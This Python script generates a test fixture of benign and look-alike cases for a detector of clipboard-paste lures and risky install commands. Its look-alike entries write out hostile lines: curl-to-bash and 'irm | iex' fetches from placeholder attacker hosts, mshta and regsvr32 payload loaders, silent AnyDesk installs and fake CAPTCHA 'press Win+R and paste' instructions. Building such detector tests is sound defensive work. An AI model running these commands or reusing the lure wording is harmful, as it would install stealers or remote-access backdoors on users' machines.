"""Writes tests/data/cases/b14benign.jsonl: ordinary texts that were warned about or blocked (the
fourteenth blind set's benign misses, by technique), each beside the look-alikes that try to
abuse the clearing and must stay flagged or blocked.

    python tests/data/cases/make_b14benign.py

Deterministic. Names are made up; hosts are reserved names (*.test, *.example, *.invalid,
documentation addresses) or a hosting service's suffix with a made-up tenant. No text is copied
from a blind set, a lure collection or another detector's fixtures. Each line is {id, text,
expect, technique, platform, source, target}.

Principles:

- `repository-tenant-ask-word`: a forge repository's own page fetching from a hosting tenant's
  site named for the repository with the word that asks for it in front (github.com/<o>/
  lanternfs and get-lanternfs.netlify.app, installlanternfs.pages.dev), as a bucket or tenant
  named for it already is. Look-alikes: the repository's issues, another repository's page, a
  known publisher's or a borrowed name, another word in front or behind, a fake check's tail,
  a paste site, a page that only borrows the name, the Run box.
- `repository-mirrored-path`: ... or from a company's download host whose path starts with the
  account's and the repository's names, the forge's own layout at any depth (github.com/
  quarrylabs/quarrymap and resource.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/latest/
  download/quick_start.sh), on a host that is a download section of its domain (dl., resource.,
  mirror.). Look-alikes: only one of the two names, the two in the wrong order, another
  account's name, a mirror's host named for the project, a paste site or a shared host, the
  issues, a fake check's tail, plain HTTP.
- `organisation-product-host`: an organisation's host named for its product (widgetctl.
  quarrylabs.example/installation/) fetching from the product's own domain (widgetctl.example).
  Look-alikes: a check page named for the product, a fake check's tail, plain HTTP, the Run box,
  the name with other words or another product's domain, a site section's or a download
  place's label (docs., get.), a tunnel named like the product, no page.
- `remote-access-own-repository`: a self-hosted remote-access tool's own repository (its README,
  named for the tool) fetching a file of that very repository (github.com/<o>/meshagent and
  raw.githubusercontent.com/<o>/meshagent/main/install.sh) is a warning (`suspicious`), never
  a block: the repository is no stranger to its script, but a repository's name is anyone's
  (its vendor's own domain clears it; make_b12benign's vendor-account cases). Its release
  files may carry its own name. Look-alikes, still blocked: another tool's name in the file's
  name, in a switch, in a second download; a tool's script on another repository's page; the
  repository's issues; a fake check's tail; the Run box.
- `remote-access-vendor-repository`: a remote-access tool's own site (its domain named for the
  tool) fetching from the forge repository named for the tool under another account
  (docs.tacticalrmm.example and raw.githubusercontent.com/<company>/tacticalrmm/...): a warning
  too, never a block (an account named for the tool clears it, make_b12benign). Look-alikes: a repository that only starts
  with the name or is named otherwise, a support site, a help desk or a blog, a second download
  naming another tool, plain HTTP, a fake check's tail, the Run box, no page.
- `defanged-prose-report`: sentences that quote a lure with every address defanged
  (hxxps://bad[.]example), without backticks, pasted where nothing runs or where the guard
  does not know: the report it is, as with backticks. Look-alikes: the same with a live
  address, the same into the Run box or a terminal, a defanged command alone (no sentence).
- `awareness-note-paste`: an awareness note saying no real site will ever ask you to open the
  Run box or a terminal and paste. Look-alikes: the orders themselves, with or without a
  command, a "will ever" that is no such promise.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b14benign.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
UNKNOWN = "unknown"
OTHER = "other"
CHECK_TAIL = " # I am not a robot - Verification ID: 4471"

# -- a forge repository's page and its tenant site named "get-<repository>" -------------------

TENANT_ASK = [
    ("https://github.com/tarnwick/lanternfs", "bash <(curl -sL get-lanternfs.netlify.app)"),
    ("https://github.com/tarnwick/lanternfs#install", "curl -fsSL https://get-lanternfs.netlify.app | bash"),
    ("https://github.com/tarnwick/lanternfs/blob/main/README.md", "curl -sL https://get-lanternfs.netlify.app/install.sh | sh"),
    ("https://github.com/ostrava-io/quarrymap", "curl -fsSL https://getquarrymap.pages.dev/install.sh | sh"),
    ("https://github.com/ostrava-io/quarrymap", "bash <(curl -fsSL https://install-quarrymap.pages.dev)"),
    ("https://gitlab.com/bellwort/fernpack", "curl -fsSL https://installfernpack.vercel.app/i.sh | bash"),
    ("https://github.com/bellwort/fernpack/releases", "curl -fsSL https://get-fernpack.vercel.app | sh -s -- -b ~/.local/bin"),
    ("https://github.com/pinecrest/tidewatch", "wget -qO- https://get-tidewatch.netlify.app/ | bash"),
    ("https://github.com/pinecrest/tidewatch", "sh -c \"$(curl -fsSL https://use-tidewatch.pages.dev/sh)\""),
    ("https://codeberg.org/mossgarden/lichenctl", "curl --proto '=https' -sSf https://try-lichenctl.pages.dev | sh"),
    ("https://github.com/mossgarden/lichenctl", "bash <(wget -qO- https://get-lichenctl.surge.sh/install)"),
    ("https://github.com/Harbour-Dev/LogSlice", "curl -fsSL https://get-logslice.netlify.app | bash"),
]  # fmt: skip
TENANT_ASK_LOOKALIKES = [
    # the repository's issues: anyone writes there
    ("https://github.com/tarnwick/lanternfs/issues/31", "bash <(curl -sL get-lanternfs.netlify.app)", "malicious"),
    ("https://github.com/tarnwick/lanternfs/discussions/8", "curl -fsSL https://get-lanternfs.netlify.app | bash", "malicious"),
    # another repository's page: the tenant names someone else's project
    ("https://github.com/tarnwick/fernpack", "bash <(curl -sL get-lanternfs.netlify.app)", "malicious"),
    # a known publisher's name or a name scam pages borrow
    ("https://github.com/someone/rustup", "curl -fsSL https://get-rustup.netlify.app | sh", "malicious"),
    ("https://github.com/someone/homebrew", "bash <(curl -fsSL https://get-homebrew.pages.dev)", "malicious"),
    ("https://github.com/someone/chatgpt", "curl -fsSL https://get-chatgpt.pages.dev/install.sh | sh", "malicious"),
    ("https://github.com/someone/zoom", "curl -fsSL https://install-zoom.vercel.app | bash", "malicious"),
    # another word in front, or words behind the name
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://fix-lanternfs.netlify.app | bash", "malicious"),
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://get-lanternfs-update.netlify.app | bash", "malicious"),
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://getthelanternfs.netlify.app | bash", "malicious"),
    # a fake check's tail on the repository's own command
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://get-lanternfs.netlify.app | bash" + CHECK_TAIL, "malicious"),
    # a paste site or a tunnel is nobody's tenant site
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://get-lanternfs.trycloudflare.com/i | bash", "malicious"),
    # a page that only borrows the name (a blog post, a free-download page)
    ("https://blog.umbra-stage.test/posts/lanternfs-review", "curl -fsSL https://get-lanternfs.netlify.app | bash", "flagged"),
    ("https://free-apps-download.test/lanternfs", "curl -fsSL https://get-lanternfs.netlify.app | bash", "flagged"),
    # the Run box
    ("https://github.com/tarnwick/lanternfs", "powershell -c \"irm https://get-lanternfs.netlify.app/install.ps1 | iex\"", "malicious"),
    # no page at all
    (None, "bash <(curl -sL get-lanternfs.netlify.app)", "flagged"),
]  # fmt: skip

# -- a forge repository's page and a company's download host mirroring its layout -------------

MIRRORED = [
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL https://resource.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/latest/download/quick_start.sh | bash"),
    ("https://github.com/quarrylabs/quarrymap#quickstart", "curl -fsSL https://resource.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/download/v3.10.2/quick_start.sh | sudo bash"),
    ("https://github.com/quarrylabs/quarrymap/blob/dev/README.md", "wget -qO- https://dl.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/latest/download/install.sh | bash"),
    ("https://github.com/tidewatch/tidewatch", "curl -sSL https://download.tidecorp.example/tidewatch/tidewatch/releases/latest/download/quick_start.sh | bash"),
    ("https://github.com/tidewatch/tidewatch", "bash <(curl -fsSL https://download.tidecorp.example/tidewatch/tidewatch/main/scripts/install.sh)"),
    ("https://github.com/Fernworks/Fernpack", "curl -fsSL https://mirror.fernworks-cn.example/fernworks/fernpack/releases/latest/download/setup.sh | sh"),
    ("https://gitlab.com/mossgarden/lichenctl", "curl -fsSL https://files.mossgarden-dl.example/mossgarden/lichenctl/-/raw/main/install.sh | bash"),
    ("https://github.com/harbour-dev/logslice", "curl -sSfL https://artifacts.harbour-dl.example/harbour-dev/logslice/releases/latest/download/install.sh | sh -s -- -b /usr/local/bin"),
    ("https://github.com/harbour-dev/log-slice", "curl -sSfL https://artifacts.harbour-dl.example/harbour-dev/log-slice/v2/install/linux/amd64/install.sh | sh"),
    ("https://github.com/quarrylabs/quarrymap", "cd /opt && curl -sSL https://resource.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/latest/download/quick_start.sh -o qs.sh && bash qs.sh"),
]  # fmt: skip
MIRRORED_LOOKALIKES = [
    # only the repository's name, four segments deep: anyone's folder of that name
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL https://resource.umbra-stage.test/files/quarrymap/latest/quick_start.sh | bash", "flagged"),
    # the two names in the wrong order, or another account's name before the repository's
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL https://resource.umbra-stage.test/quarrymap/quarrylabs/releases/latest/download/q.sh | bash", "flagged"),
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL https://resource.umbra-stage.test/quarrylab/quarrymap/releases/latest/download/q.sh | bash", "flagged"),
    # the repository's issues
    ("https://github.com/quarrylabs/quarrymap/issues/404", "curl -sSL https://resource.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/latest/download/quick_start.sh | bash", "flagged"),
    ("https://github.com/quarrylabs/quarrymap/pull/12", "curl -sSL https://resource.umbra-stage.test/quarrylabs/quarrymap/releases/latest/download/q.sh | bash", "flagged"),
    # a paste site or a shared host under the same names
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL https://pastebin.com/quarrylabs/quarrymap/raw/latest/q.sh | bash", "malicious"),
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL https://raw.githubusercontent.com/someone-else/quarrymap/main/quarrylabs/quarrymap/q.sh | bash", "flagged"),
    # a known publisher's name as the repository
    ("https://github.com/someone/rustup", "curl -sSL https://resource.umbra-stage.test/someone/rustup/releases/latest/download/rustup-init.sh | sh", "flagged"),
    # a fake check's tail
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL https://resource.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/latest/download/quick_start.sh | bash" + CHECK_TAIL, "malicious"),
    # a page that only borrows the path's names
    ("https://forum.brightfield.test/t/quarrylabs-quarrymap-install", "curl -sSL https://resource.umbra-stage.test/quarrylabs/quarrymap/releases/latest/download/q.sh | bash", "flagged"),
    # a mirror's host named for the project, not a download section of its domain
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL https://quarrymap-dl.some-mirror.test/quarrylabs/quarrymap/releases/latest/download/q.sh | bash", "flagged"),
    ("https://github.com/quarrylabs/quarrymap/releases", "iwr http://quarrymap-dl.some-mirror.test/quarrylabs/quarrymap/releases/download/v1.0.0/q.zip -OutFile $env:TEMP\\q.zip; Expand-Archive $env:TEMP\\q.zip -DestinationPath $env:TEMP\\q -Force; Start-Process $env:TEMP\\q\\q.exe", "malicious"),
    # plain HTTP
    ("https://github.com/quarrylabs/quarrymap", "curl -sSL http://resource.quarrylabs-cdn.example/quarrylabs/quarrymap/releases/latest/download/quick_start.sh | bash", "flagged"),
]  # fmt: skip

# -- an organisation's host named for its product, and the product's own domain --------------

ORG_PRODUCT = [
    ("https://widgetctl.quarrylabs.example/installation/package-manager/", "bash <(curl -fsSL https://widgetctl.example/deb-install.sh)"),
    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://widgetctl.example/install.sh | sh"),
    ("https://widgetctl.quarrylabs.example/", "curl -fsSL https://get.widgetctl.example | bash"),
    ("https://lanternfs.tarnwick-labs.example/docs/quickstart", "curl -fsSL https://lanternfs.example/install | sh"),
    ("https://lanternfs.tarnwick-labs.example/docs/quickstart", "wget -qO- https://dl.lanternfs.example/install.sh | sudo bash"),
    ("https://sing-box.sagernet.example/installation/package-manager/", "bash <(curl -fsSL https://sing-box.example/deb-install.sh)"),
    ("https://sing-box.sagernet.example/installation/package-manager/", "bash <(curl -fsSL https://sing-box.example/rpm-install.sh)"),
    ("https://tidewatch.pinecrest.example/guide/", "sh -c \"$(curl -fsSL https://tidewatch.example/install.sh)\""),
    ("https://fernpack.bellwort-dev.example/getting-started", "curl -sSfL https://fernpack.example/install.sh | sh -s -- -b ~/.local/bin"),
    ("https://quarrymap.ostrava-io.example/en/latest/install.html", "curl -fsSL https://quarrymap.example/install.sh | bash"),
]  # fmt: skip
ORG_PRODUCT_LOOKALIKES = [
    # a check page named for the product, a fake check's tail, plain HTTP, the Run box
    ("https://widgetctl.verify-human.example/", "curl -fsSL https://widgetctl.example/install.sh | sh", "malicious"),
    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://widgetctl.example/install.sh | sh" + CHECK_TAIL, "malicious"),
    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL http://widgetctl.example/install.sh | sh", "flagged"),
    ("https://widgetctl.quarrylabs.example/installation/", "powershell -c \"irm https://widgetctl.example/install.ps1 | iex\"", "malicious"),
    # the product's name with other words in the script's domain, or another product's
    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://widgetctl-fix.example/install.sh | sh", "flagged"),
    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://getwidgetctl-now.example/install.sh | sh", "flagged"),
    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://lanternfs.example/install.sh | sh", "flagged"),
    # a site section's or a download place's label is no product's
    ("https://docs.quarrylabs.example/installation/", "curl -fsSL https://docs.example/install.sh | sh", "flagged"),
    ("https://get.quarrylabs.example/", "curl -fsSL https://get.example/install.sh | sh", "flagged"),
    # a paste site or a tunnel named like the product
    ("https://widgetctl.quarrylabs.example/installation/", "curl -fsSL https://widgetctl.trycloudflare.com/install.sh | sh", "malicious"),
    # no page
    (None, "curl -fsSL https://widgetctl.example/install.sh | sh", "flagged"),
]  # fmt: skip

# -- a self-hosted remote-access tool's own repository ----------------------------------------

RAT_OWN = [
    ("https://github.com/amberline/meshagent", "wget https://raw.githubusercontent.com/amberline/meshagent/master/install.sh\nchmod +x install.sh\n./install.sh"),
    ("https://github.com/amberline/meshagent#installation", "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/install.sh | sudo bash"),
    ("https://github.com/amberline/meshagent/blob/main/docs/install.md", "wget -qO- https://raw.githubusercontent.com/amberline/meshagent/main/scripts/server.sh | bash"),
    ("https://github.com/quillmere/rustdesk", "curl -fsSL https://raw.githubusercontent.com/quillmere/rustdesk/master/install.sh -o install.sh && bash install.sh"),
    ("https://github.com/quillmere/RustDesk", "bash <(curl -s https://raw.githubusercontent.com/quillmere/RustDesk/main/server/install.sh)"),
    ("https://github.com/fenwick-hq/tacticalrmm", "wget https://raw.githubusercontent.com/fenwick-hq/tacticalrmm/develop/install.sh\nbash install.sh"),
    ("https://github.com/fenwick-hq/tacticalrmm/releases", "curl -fsSLO https://github.com/fenwick-hq/tacticalrmm/releases/download/v1.2.0/install.sh && bash install.sh"),
    ("https://gitlab.com/tarnwick/meshagent", "curl -fsSL https://gitlab.com/tarnwick/meshagent/-/raw/main/install.sh | bash"),
    ("https://github.com/amberline/dwagent", "curl -fsSL https://raw.githubusercontent.com/amberline/dwagent/main/setup.sh | sudo sh"),
    ("https://github.com/amberline/meshagent", "mkdir -p ~/mesh && cd ~/mesh && wget https://raw.githubusercontent.com/amberline/meshagent/master/docker-compose.yml && docker compose up -d"),
    # its release files carry its own name
    ("https://github.com/quillmere/rustdesk", "wget https://github.com/quillmere/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.deb && sudo apt install -fy ./rustdesk-1.3.2-x86_64.deb"),
    ("https://github.com/quillmere/rustdesk/releases", "curl -LO https://github.com/quillmere/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-0.x86_64.rpm\nsudo dnf install ./rustdesk-1.3.2-0.x86_64.rpm"),
]  # fmt: skip
RAT_OWN_LOOKALIKES = [
    # the tool's name in the file's name, in a switch, or another repository's page
    ("https://github.com/amberline/helpdesk-tools", "curl -fsSL https://raw.githubusercontent.com/amberline/helpdesk-tools/main/anydesk.sh | bash", "malicious"),
    ("https://github.com/amberline/meshagent", "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/anydesk.sh | bash", "malicious"),
    ("https://github.com/amberline/meshagent", "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/install.sh | bash -s -- --with-anydesk", "malicious"),
    ("https://github.com/amberline/remote-help", "wget https://raw.githubusercontent.com/amberline/remote-help/main/install.sh && bash install.sh && teamviewer --passwd 4471", "flagged"),
    # another tool named after the repository's own download
    ("https://github.com/quillmere/rustdesk", "wget https://github.com/quillmere/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.deb && sudo apt install -fy ./rustdesk-1.3.2-x86_64.deb && anydesk --install /opt/a --silent", "malicious"),
    ("https://github.com/quillmere/rustdesk", "wget https://github.com/quillmere/rustdesk/releases/download/1.3.2/teamviewer-host.deb && sudo apt install -fy ./teamviewer-host.deb", "malicious"),
    # a second download from elsewhere, naming the tool
    ("https://github.com/amberline/meshagent", "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/install.sh | bash && curl -fsSLo a.deb https://cdn.umbra-stage.test/anydesk.deb", "malicious"),
    # a file of another repository named for the tool
    ("https://github.com/amberline/meshagent", "curl -fsSL https://raw.githubusercontent.com/someone-else/meshagent/main/install.sh | bash", "malicious"),
    # the repository's issues and discussions
    ("https://github.com/amberline/meshagent/issues/77", "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/install.sh | bash", "malicious"),
    ("https://github.com/amberline/meshagent/discussions/3", "wget https://raw.githubusercontent.com/amberline/meshagent/master/install.sh\nchmod +x install.sh\n./install.sh", "malicious"),
    # a fake check's tail
    ("https://github.com/amberline/meshagent", "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/install.sh | bash" + CHECK_TAIL, "malicious"),
    # the Run box
    ("https://github.com/amberline/meshagent", "powershell -c \"irm https://raw.githubusercontent.com/amberline/meshagent/main/install.ps1 | iex\"", "malicious"),
    # a support page that is not the repository
    ("https://support-desk.umbra-stage.test/meshagent", "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/install.sh | bash", "malicious"),
    # no page at all
    (None, "curl -fsSL https://raw.githubusercontent.com/amberline/meshagent/main/install.sh | bash", "flagged"),
]  # fmt: skip

# -- a remote-access tool's own site and the repository named for the tool --------------------

RAT_VENDOR = [
    ("https://docs.tacticalrmm.example/install_server/", "wget https://raw.githubusercontent.com/amberline/tacticalrmm/master/install.sh\nchmod +x install.sh\n./install.sh"),
    ("https://docs.tacticalrmm.example/install_server/", "curl -fsSL https://raw.githubusercontent.com/amberline/tacticalrmm/master/install.sh -o install.sh && bash install.sh"),
    ("https://docs.tacticalrmm.example/install_agent/", "wget https://github.com/amberline/tacticalrmm/releases/download/v0.20.1/install.sh && sudo bash install.sh"),
    ("https://www.meshagent.example/docs/linux", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash"),
    ("https://meshagent.example/download", "wget -qO- https://raw.githubusercontent.com/quillmere/meshagent/main/server/setup.sh | bash"),
    ("https://rustdesk.example/docs/en/self-host/", "wget https://raw.githubusercontent.com/fenwick-hq/rustdesk/main/install.sh\nchmod +x install.sh\n./install.sh"),
    ("https://rustdesk.example/docs/en/client/linux/", "wget https://github.com/fenwick-hq/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.deb && sudo apt install -fy ./rustdesk-1.3.2-x86_64.deb"),
    ("https://dwagent.example/en/download", "curl -fsSLO https://github.com/tarnwick/dwagent/releases/download/v2/dwagent.sh && sudo sh dwagent.sh"),
    ("https://docs.tacticalrmm.example/", "bash <(curl -fsSL https://raw.githubusercontent.com/amberline/tacticalrmm/develop/install.sh)"),
    ("https://www.rustdesk.example/download", "curl -LO https://github.com/fenwick-hq/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-0.x86_64.rpm\nsudo dnf install ./rustdesk-1.3.2-0.x86_64.rpm"),
]  # fmt: skip
RAT_VENDOR_LOOKALIKES = [
    # a repository that only starts with the tool's name, or is named otherwise
    ("https://docs.tacticalrmm.example/install_server/", "wget https://raw.githubusercontent.com/someone/tacticalrmm-fix/master/install.sh\nchmod +x install.sh\n./install.sh", "malicious"),
    ("https://docs.tacticalrmm.example/install_server/", "wget https://raw.githubusercontent.com/someone/rmm-tools/master/tacticalrmm.sh\nbash tacticalrmm.sh", "flagged"),
    # a support site that is not the tool's, a help desk, a page that only borrows the name
    ("https://tacticalrmm-support.example/install", "wget https://raw.githubusercontent.com/amberline/tacticalrmm/master/install.sh\nchmod +x install.sh\n./install.sh", "malicious"),
    ("https://helpdesk.umbra-stage.test/remote", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash", "malicious"),
    ("https://blog.brightfield.test/meshagent-review", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash", "malicious"),
    # another tool from the tool's own site's repository, or a second download elsewhere
    ("https://www.meshagent.example/docs/linux", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash && curl -fsSLo a.deb https://cdn.umbra-stage.test/anydesk.deb", "malicious"),
    # plain HTTP, a fake check's tail, the Run box
    ("https://www.meshagent.example/docs/linux", "wget http://github.com/quillmere/meshagent/releases/download/v1/meshagent.deb && sudo dpkg -i meshagent.deb", "flagged"),
    ("https://www.meshagent.example/docs/linux", "curl -fsSL https://raw.githubusercontent.com/quillmere/meshagent/main/install.sh | sudo bash" + CHECK_TAIL, "malicious"),
    ("https://www.meshagent.example/docs/windows", "powershell -c \"irm https://raw.githubusercontent.com/quillmere/meshagent/main/install.ps1 | iex\"", "malicious"),
    # no page
    (None, "wget https://raw.githubusercontent.com/amberline/tacticalrmm/master/install.sh\nchmod +x install.sh\n./install.sh", "flagged"),
]  # fmt: skip

# -- sentences that quote a lure with its address defanged, without backticks ------------------

BLOG = "https://blog.soc-notes.example/2026/11/clipboard-wave"
DEFANGED_PROSE = [
    "The fake check asked visitors to press Win+R and paste a line. The line started mshta hxxps://verify-human[.]example/v and ended with a comment about the check.",
    "Victims were told to open a terminal and paste curl -fsSL hxxps://cdn[.]umbra-stage[.]test/i | bash, which fetched a stealer.",
    "The page copied powershell -w h -c iex(irm hxxps://c2[.]umbra-stage[.]test/p) to the clipboard. Block the domain at the proxy and hunt for RunMRU entries.",
    "In the second wave the command was mshta hxxp://198.51.100[.]23/a.hta with a fake Ray ID after it. Alert on mshta making network connections.",
    "Analysts saw regsvr32 /s /i:hxxps://files[.]umbra-stage[.]test/x.sct scrobj.dll in the Run history. The server was taken down on Friday.",
    "The lure told people to paste msiexec /i hxxps://update-check[.]umbra-stage[.]test/u.msi /qn into the Run box and press Enter.",
    "Users on macOS were asked to run osascript -e with a script fetched from hxxps://mac-fix[.]umbra-stage[.]test/s, which asked for their password.",
    "We blocked curl hxxps://verify[.]umbra-stage[.]test/c.sh | sh at the proxy after three people reported the page to the help desk.",
    "Le faux captcha demandait de coller mshta hxxps://verif-humain[.]umbra-stage[.]test/v dans la fenêtre Exécuter.",
    "The second stage downloaded hxxps://cdn[.]umbra-stage[.]test/a.zip into the temp folder and ran the program inside it with a hidden window.",
]  # fmt: skip
DEFANGED_PROSE_LOOKALIKES = [
    # a live address
    ("The fake check asked visitors to press Win+R and paste a line. The line started mshta https://verify-human.umbra-stage.test/v and ended with a comment about the check.", UNKNOWN, "flagged"),
    ("Victims were told to open a terminal and paste curl -fsSL https://cdn.umbra-stage.test/i | bash, which fetched a stealer.", UNKNOWN, "flagged"),
    # the same report into the Run box
    ("The fake check asked visitors to press Win+R and paste a line. The line started mshta hxxps://verify-human[.]example/v and ended with a comment about the check.", RUN, "flagged"),
    ("The lure told people to paste msiexec /i hxxps://update-check[.]umbra-stage[.]test/u.msi /qn into the Run box and press Enter.", RUN, "flagged"),
    # a defanged command alone is no sentence
    ("mshta hxxps://verify-human[.]umbra-stage[.]test/v", RUN, "flagged"),
    ("powershell -w h -c \"iex(irm hxxps://c2[.]umbra-stage[.]test/p)\"", RUN, "flagged"),
    # orders to paste with a live command, in a page's words
    ("To verify you are human press Win+R, paste this and press Enter: mshta https://verify-human.umbra-stage.test/v", UNKNOWN, "flagged"),
    ("Press Win+R and paste: powershell -w h -c \"iex(irm https://c2.umbra-stage.test/p)\"", UNKNOWN, "flagged"),
    ("Open Terminal and paste curl -fsSL https://cdn.umbra-stage.test/i | bash to finish the update.", UNKNOWN, "flagged"),
    ("The line started mshta https://verify-human.umbra-stage.test/v and the rest was a comment.", UNKNOWN, "flagged"),
]  # fmt: skip

# -- an awareness note about pasting ---------------------------------------------------------

WIKI = "https://wiki.sec-team.example/awareness/clipboard"
AWARENESS = [
    "Awareness note: no real website will ever ask you to open Run (Win+R), Terminal or PowerShell and paste something to prove you are human. If a page does, close it and report it.",
    "Remember: no genuine site will ever ask you to press Win+R and paste a command to verify you are human.",
    "No legitimate company would ever ask you to press Windows+R, paste and press Enter. Close the tab and call the service desk.",
    "Nobody will ever ask you to open Terminal with Command+Space and paste a command to prove you are human.",
    "No real CAPTCHA will ever tell you to press Win+R, then Ctrl+V, then Enter to confirm you are not a bot.",
    "A reminder from IT: no website should ever ask you to press Win+X, open PowerShell and paste something. Report such pages to security@corp.example.",
    "No support team will ever require you to press Ctrl+Alt+T and paste a command they sent you.",
    "Tip: no real site does ever ask you to paste into the Run box (Win+R). If you see that, it is a trick.",
    "No bank will ever ask you to open PowerShell and paste a command to prove you are human.",
    "Quick reminder: no real verification will ever ask you to press Win+R and paste. Close the page.",
    "No real website will ever ask you to open PowerShell and paste a command to verify you are human.",
    "Security tip: no legitimate page would ever ask you to run cmd /c or PowerShell to prove you are human. Close it.",
    "No CAPTCHA will ever require you to open Terminal and run a command to check that you are human.",
    "Nobody at IT will ever ask you to paste into PowerShell to confirm you are a real person.",
    "No website will ever want you to press Win+R and run mshta to verify you are human: report it to security@corp.example.",
]  # fmt: skip
AWARENESS_LOOKALIKES = [
    "To prove you are human press Win+R, paste with Ctrl+V and press Enter.",
    "1. Press Win + R\n2. Paste with Ctrl + V\n3. Press Enter to finish the verification",
    "Press Win+R and paste the code. This is the only time we will ever ask you to do this.",
    "Press Win+R, paste and press Enter. If it does not work, will you ever try again? Yes.",
    "Press Command + Space, type Terminal and paste the line to prove you are human.",
    "Verification step: press Windows+R, paste (Ctrl+V) and press Enter. You will ever be asked once.",
    "To verify you are human press Win+R, paste this and press Enter: mshta https://verify-human.umbra-stage.test/v",
    "No problem: press Win+R, paste and press Enter to prove you are human.",
    "Press Ctrl+Alt+T and paste this to finish: curl -fsSL https://cdn.umbra-stage.test/i | bash",
]  # fmt: skip
# ...and the same promise in front of a live command, into the Run box
AWARENESS_COMMAND_LOOKALIKES = [
    "No bank will ever ask you this, but our check does: press Win+R, paste and press Enter: powershell -c \"irm https://c2.umbra-stage.test/p | iex\"",
    "No real site will ever ask you to do this twice: mshta https://verify-human.umbra-stage.test/v # I am not a robot",
    "Nobody will ever ask you again. powershell -w h -c \"iex(irm https://c2.umbra-stage.test/p)\"",
]  # fmt: skip


def forge_pages(book: Book) -> None:
    groups = [
        ("repository-tenant-ask-word", TENANT_ASK, TENANT_ASK_LOOKALIKES),
        ("repository-mirrored-path", MIRRORED, MIRRORED_LOOKALIKES),
        ("remote-access-own-repository", RAT_OWN, RAT_OWN_LOOKALIKES),
        ("organisation-product-host", ORG_PRODUCT, ORG_PRODUCT_LOOKALIKES),
        ("remote-access-vendor-repository", RAT_VENDOR, RAT_VENDOR_LOOKALIKES),
    ]
    for technique, cases, lookalikes in groups:
        # a remote-access tool's own repository is warned about, never blocked nor cleared
        quiet = "suspicious" if technique.startswith("remote-access") else "not_flagged"
        for page, text in cases:
            book.add(technique, text, quiet, "linux", TERMINAL, page)
        for page, text, expect in lookalikes:
            target = RUN if text.startswith("powershell") else TERMINAL
            book.add(technique + "-lookalike", text, expect, "linux", target, page)


def write_ups(book: Book) -> None:
    for i, text in enumerate(DEFANGED_PROSE):
        book.add("defanged-prose-report", text, "not_flagged", "any", (UNKNOWN, OTHER)[i % 2], BLOG)
    for text, target, expect in DEFANGED_PROSE_LOOKALIKES:
        book.add("defanged-prose-report-lookalike", text, expect, "any", target, BLOG)
    for i, text in enumerate(AWARENESS):
        book.add(
            "awareness-note-paste", text, "not_flagged", "any", UNKNOWN, WIKI if i % 2 else None
        )
    for i, text in enumerate(AWARENESS_LOOKALIKES):
        # the orders alone are information where the guard does not know the target (no
        # command to run); with a command beside them they are flagged
        page = "https://verify.umbra-stage.test/check" if i % 2 else None
        runs = "https://" in text
        expect = "flagged" if runs else "info"
        book.add("awareness-note-paste-lookalike", text, expect, "any", UNKNOWN, page)
    for text in AWARENESS_COMMAND_LOOKALIKES:
        page = "https://verify.umbra-stage.test/check"
        book.add("awareness-note-paste-lookalike", text, "malicious", "windows", RUN, page)


def build() -> list[dict[str, str]]:
    book = Book("b14b")
    forge_pages(book)
    write_ups(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
